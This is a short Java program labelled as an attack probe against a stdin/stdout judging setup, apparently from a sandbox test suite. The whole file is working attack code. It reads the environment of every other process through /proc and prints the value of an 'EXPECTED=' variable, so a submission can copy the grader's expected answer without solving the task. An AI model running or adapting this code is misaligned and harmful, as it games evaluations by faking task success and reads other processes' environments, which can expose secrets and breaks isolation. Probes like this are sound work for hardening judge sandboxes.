// Attack on stdin_stdout (probe): reads the command lines and environments of other processes.
import java.io.*;
import java.nio.file.*;

public class Main {
    public static void main(String[] args) throws Exception {
        for (File f : new File("/proc").listFiles()) {
            if (!f.getName().matches("[0-9]+")) continue;
            try {
                String s = new String(Files.readAllBytes(f.toPath().resolve("environ")));
                int i = s.indexOf("EXPECTED=");
                if (i >= 0) System.out.println(s.substring(i + 9));
            } catch (IOException e) {
            }
        }
    }
}
